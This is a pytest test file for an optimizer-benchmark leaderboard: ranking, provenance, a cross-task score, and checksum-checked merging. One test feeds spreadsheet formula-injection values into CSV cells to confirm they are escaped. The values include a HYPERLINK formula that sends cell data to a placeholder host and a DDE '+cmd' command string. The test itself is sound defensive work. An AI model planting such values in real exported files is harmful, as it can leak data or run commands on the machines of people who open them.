"""The leaderboard: best settings, provenance, the cross-task rule, and a merge that trusts nothing."""

from __future__ import annotations

import csv
import math
import warnings
from pathlib import Path

import pandas as pd
import pytest
import torch

import optbench
from optbench.cli import main
from optbench.errors import OptbenchError
from optbench.leaderboard import (
    COLUMNS,
    LeaderboardWarning,
    _profile,
    build_leaderboard,
    merge,
    read_leaderboard,
    row_checksum,
    write_leaderboard,
)


@pytest.fixture(scope="module")
def board(results_dir):
    return build_leaderboard([results_dir])


@pytest.fixture
def board_csv(board, tmp_path) -> Path:
    return write_leaderboard(board, tmp_path / "a.csv")


def _rows(path: Path) -> list[list[str]]:
    with open(path, newline="") as f:
        return list(csv.reader(f))


def _write_rows(path: Path, rows) -> None:
    with open(path, "w", newline="") as f:
        csv.writer(f, lineterminator="\n").writerows(rows)


# ---------------------------------------------------------------------------
# building


def test_one_row_per_task_and_optimizer_with_its_tuning_budget(board, results_dir):
    assert list(board.columns) == list(COLUMNS)
    assert not board.duplicated(["task", "optimizer"]).any()
    assert set(zip(board["task"], board["optimizer"])) == {
        (t, o) for t in ("pi", "l2-bowl", "noisy-regression") for o in ("sgd", "adam")}
    summary = pd.read_csv(results_dir / "summary.csv")
    tried = summary.groupby(["task", "optimizer"]).apply(
        lambda g: len(g.drop_duplicates(["hparams", "scheduler", "grad_mode", "clip"])), include_groups=False)
    for _, row in board.iterrows():
        assert row["n_settings"] == tried[(row["task"], row["optimizer"])]
        assert row["n_runs"] == len(summary[(summary.task == row["task"]) & (summary.optimizer == row["optimizer"])])
    # pi: 2 lrs x 2 schedulers x 2 gradient modes; the bowl: 3 lrs x 2 schedulers x 2 clip values
    assert set(board.loc[board.task == "pi", "n_settings"]) == {8}
    assert set(board.loc[board.task == "l2-bowl", "n_settings"]) == {12}


def test_best_setting_has_the_lowest_mean_final_target_among_reliable_settings(board, results_dir):
    s = pd.read_csv(results_dir / "summary.csv")
    axes = ["task", "optimizer", "hparams", "scheduler", "grad_mode", "clip"]
    per_setting = s.groupby(axes).agg(
        score=("final_target_metric", "mean"), all_ok=("status", lambda x: (x == "ok").all())).reset_index()
    reliable = per_setting[per_setting["all_ok"]]
    for _, row in board.iterrows():
        mine = reliable[(reliable.task == row["task"]) & (reliable.optimizer == row["optimizer"])]
        assert row["score"] == pytest.approx(mine["score"].min(), rel=1e-12)
        best = mine.loc[mine["score"].idxmin()]
        assert (row["hparams"], row["scheduler"], row["grad_mode"], row["clip"]) == \
               (best["hparams"], best["scheduler"], best["grad_mode"], best["clip"])


def test_a_diverging_setting_is_never_the_best(board, results_dir):
    s = pd.read_csv(results_dir / "summary.csv")
    diverged = s[s.status == "diverged"]
    assert not diverged.empty, "the test grid should make plain SGD at lr 1.1 diverge on the bowl"
    sgd = board[(board.task == "l2-bowl") & (board.optimizer == "sgd")].iloc[0]
    assert sgd["divergence_rate"] == 0 and sgd["n_ok"] == sgd["n_seeds"]
    assert not ((sgd["clip"] == 0) & (sgd["lr"] == 1.1) & (sgd["scheduler"] == "constant"))


def test_targets_ranks_and_times(board):
    for task, g in board.groupby("task"):
        assert list(g["rank"]) == list(range(1, len(g) + 1))
        assert (g["score"].diff().dropna() >= 0).all()  # every row here finished all seeds
    noisy = board[board.task == "noisy-regression"]
    assert set(noisy["target_metric"]) == {"val_loss"} and set(noisy["target_value"]) == {0.25}
    reached = board[board["reached_target"] > 0.5]
    assert (reached["steps_to_target"] > 0).all() and (reached["time_to_target"] > 0).all()
    never = board[board["reached_target"] == 0]
    assert never["steps_to_target"].map(math.isinf).all() and never["time_to_target"].map(math.isinf).all()


def test_every_row_carries_its_provenance(board):
    assert (board["optbench_version"] == optbench.__version__).all()
    assert (board["torch_version"] == torch.__version__).all()
    assert (board["optimizer_dist"] == "optbench").all()
    assert (board["device"] == "cpu").all() and (board["threads"] >= 1).all()
    assert (board["task_version"] == "1").all()
    assert (board["schema_version"] == 2).all()
    for col in ("config_hash", "task_hash", "task_settings", "checksum", "optimizer_version", "python_version"):
        assert (board[col].str.len() > 0).all(), col
    assert '"steps":40' in board.loc[board.task == "pi", "task_settings"].iloc[0]
    # different settings, different config hashes; same task, same task hash
    assert board["config_hash"].is_unique
    assert board.groupby("task")["task_hash"].nunique().eq(1).all() and board["task_hash"].nunique() == 3


def test_confidence_intervals_shrink_with_more_seeds(seed_grids):
    two, six = seed_grids
    b2, b6 = build_leaderboard([two]), build_leaderboard([six])
    assert set(b2["n_seeds"]) == {2} and set(b6["n_seeds"]) == {6}
    ci2 = b2.set_index("optimizer")["score_ci95"]
    ci6 = b6.set_index("optimizer")["score_ci95"]
    assert (ci2 > 0).all() and (ci6 < ci2).all(), (ci2, ci6)
    # the same holds setting by setting in the grid's own convergence table
    keys = ["optimizer", "hparams"]
    c2 = pd.read_csv(two / "convergence.csv").set_index(keys)["final_target_metric_ci95"]
    c6 = pd.read_csv(six / "convergence.csv").set_index(keys)["final_target_metric_ci95"]
    assert (c6 < c2).all()


# ---------------------------------------------------------------------------
# the cross-task rule


def test_cross_task_score_follows_the_documented_rule():
    df = pd.DataFrame({
        "task": ["A", "A", "A", "B", "B", "C", "C"],
        "optimizer": ["x", "y", "z", "x", "y", "x", "y"],
        # C: nobody reaches the target, so it is left out (K = 2)
        "time_to_target": [1.0, 2.0, math.inf, 3.0, 1.5, math.inf, math.nan],
    })
    ratio, score, k = _profile(df, "time_to_target")
    assert k == 2
    assert list(ratio[:5]) == [1.0, 2.0, math.inf, 2.0, 1.0] and all(math.isnan(r) for r in ratio[5:])
    # mean over tasks of clip((4 - r) / 3, 0, 1); z has no row on B, which counts as never reaching it
    assert score["x"] == pytest.approx((1 + 2 / 3) / 2)
    assert score["y"] == pytest.approx((2 / 3 + 1) / 2)
    assert score["z"] == 0.0


def test_cross_task_columns_in_a_built_board(board):
    for _, g in board.groupby("task"):
        reached = g["time_to_target"].map(math.isfinite)
        if reached.any():
            assert g.loc[reached, "time_ratio"].min() == 1.0
    assert board["cross_task_score"].between(0, 1).all()
    assert board.groupby("optimizer")["cross_task_score"].nunique().eq(1).all()


# ---------------------------------------------------------------------------
# files and merging


def test_write_read_round_trip_is_exact(board, board_csv):
    back = read_leaderboard(board_csv).drop(columns=["_source"])
    pd.testing.assert_frame_equal(back, board, check_dtype=False)
    assert all(row_checksum(r) == r[-1] for r in _rows(board_csv)[1:])


def test_merge_of_two_seed_counts_keeps_the_better_row_and_says_so(seed_grids, tmp_path):
    two, six = seed_grids
    a = write_leaderboard(build_leaderboard([two]), tmp_path / "two.csv")
    b = write_leaderboard(build_leaderboard([six]), tmp_path / "six.csv")
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        merged = merge([a, b])
    assert not merged.duplicated(["task", "optimizer"]).any() and len(merged) == 2
    notes = [str(w.message) for w in caught if w.category is LeaderboardWarning]
    assert len(notes) == 2 and all("two.csv" in n and "six.csv" in n and "kept" in n for n in notes)


def test_merge_rejects_a_tampered_row(board_csv, tmp_path):
    rows = _rows(board_csv)
    i = rows[0].index("score")
    rows[3][i] = str(float(rows[3][i]) / 2)  # a better score than the grid measured
    bad = tmp_path / "tampered.csv"
    _write_rows(bad, rows)
    with pytest.raises(OptbenchError) as err:
        merge([board_csv, bad])
    msg = str(err.value)
    assert "\n" not in msg and f"{bad} line 4" in msg and "checksum" in msg


def test_merge_rejects_a_different_task_version(board_csv, board, tmp_path):
    other = board.copy()
    other.loc[other.task == "pi", "task_version"] = "2"
    b = write_leaderboard(other, tmp_path / "b.csv")  # signed by optbench: a legitimate but different task
    with pytest.raises(OptbenchError, match=r"task 'pi' differs: version 1 in .*a\.csv:\d+ vs version 2 in .*b\.csv"):
        merge([board_csv, b])


def test_merge_rejects_different_task_settings(board_csv, results_dir, run_blocks, tmp_path):
    from optbench.gridspec import GridBlock

    short = run_blocks([GridBlock(tasks=["pi"], optimizers=["sgd"], steps=20, hparams={"*": {"lr": [0.1]}})],
                       tmp_path / "short")
    b = write_leaderboard(build_leaderboard([short]), tmp_path / "short.csv")
    with pytest.raises(OptbenchError) as err:
        merge([board_csv, b])
    msg = str(err.value)
    assert "\n" not in msg and "cannot merge" in msg and "task 'pi' differs: steps 40 vs 20" in msg
    assert "a.csv" in msg and "short.csv" in msg
    # pooling the two results folders into one leaderboard is refused the same way
    with pytest.raises(OptbenchError, match="task 'pi' differs: steps 40 vs 20"):
        build_leaderboard([results_dir, short])


def test_merge_validates_columns_and_types(board_csv, tmp_path):
    rows = _rows(board_csv)
    drop = rows[0].index("target_value")
    missing = tmp_path / "edited.csv"
    _write_rows(missing, [r[:drop] + r[drop + 1:] for r in rows])
    with pytest.raises(OptbenchError, match=r"edited\.csv does not have the columns .* 2 \(missing target_value\)"):
        merge([board_csv, missing])
    old = [list(r) for r in rows]
    for r in old[1:]:
        r[0] = "0"
    _write_rows(tmp_path / "old.csv", [r[:drop] + r[drop + 1:] for r in old])
    with pytest.raises(OptbenchError, match=r"old\.csv is a leaderboard of schema 0, this optbench reads schema 2"):
        merge([board_csv, tmp_path / "old.csv"])
    rows[2][rows[0].index("n_runs")] = "lots"
    rows[2][-1] = row_checksum(rows[2])  # a well-signed row can still be malformed
    typed = tmp_path / "typed.csv"
    _write_rows(typed, rows)
    with pytest.raises(OptbenchError, match=r"typed\.csv line 3 .*column n_runs holds 'lots', expected an integer"):
        merge([board_csv, typed])


def test_formula_cells_are_neutralised_and_numbers_stay_numbers(board, tmp_path):
    evil = board.copy()
    evil.loc[0, "optimizer"] = '=HYPERLINK("http://x.example/?"&A1,"click")'
    evil.loc[1, "optimizer"] = "+cmd|' /C calc'!A0"
    evil.loc[2, "optimizer"] = "-2+3"
    evil.loc[3, "optimizer"] = "@SUM(A1:A9)"
    evil.loc[4, "optimizer"] = "\tTAB"
    evil.loc[0, "score"] = -1.5  # a negative number is a number, not a formula
    path = write_leaderboard(evil, tmp_path / "evil.csv")
    rows = _rows(path)
    opt, score = rows[0].index("optimizer"), rows[0].index("score")
    cells = [r[opt] for r in rows[1:6]]
    assert all(c.startswith("'") for c in cells), cells
    assert rows[1][score] == "-1.5"
    # a file written by some other tool, with a formula and a checksum over it, is neutralised on merge
    raw = [list(r) for r in rows]
    raw[6][opt] = "=1+1"
    raw[6][-1] = row_checksum(raw[6])
    other = tmp_path / "other.csv"
    _write_rows(other, raw)
    merged = merge([other])
    assert "'=1+1" in set(merged["optimizer"]) and "=1+1" not in set(merged["optimizer"])
    out = write_leaderboard(merged, tmp_path / "merged.csv")
    texts = [c for r in _rows(out)[1:] for c, kind in zip(r, COLUMNS.values()) if kind == "str"]
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in texts)
    assert merged["score"].dtype == float and (merged["score"] == -1.5).any()


def test_cli_builds_and_merges(results_dir, seed_grids, tmp_path, capsys):
    a, b, both = tmp_path / "a.csv", tmp_path / "b.csv", tmp_path / "all.csv"
    assert main(["leaderboard", str(results_dir), "-o", str(a)]) == 0
    table = capsys.readouterr().out
    assert "noisy-regression" in table and "cross_task_score" in table
    assert main(["leaderboard", str(seed_grids[1]), "-o", str(b)]) == 0
    assert main(["leaderboard", "merge", str(a), str(b), "-o", str(both)]) == 0
    captured = capsys.readouterr()
    assert "warning" in captured.err and "kept" in captured.err
    merged = read_leaderboard(both).set_index(["task", "optimizer"])
    assert len(merged) == 6
    two_or_six = pd.concat([read_leaderboard(a), read_leaderboard(b)])
    for (task, opt), row in merged.iterrows():  # each kept row is the better of the candidates
        candidates = two_or_six[(two_or_six.task == task) & (two_or_six.optimizer == opt)]
        assert row["score"] == candidates["score"].min()

    rows = _rows(a)
    rows[1][rows[0].index("hparams")] = '{"lr":10}'
    _write_rows(a, rows)
    assert main(["leaderboard", "merge", str(a), str(b), "-o", str(both)]) == 2
    err = capsys.readouterr().err.strip()
    assert err.startswith("optbench: error:") and "\n" not in err and "checksum" in err
    assert main(["leaderboard", "merge", str(b)]) == 2
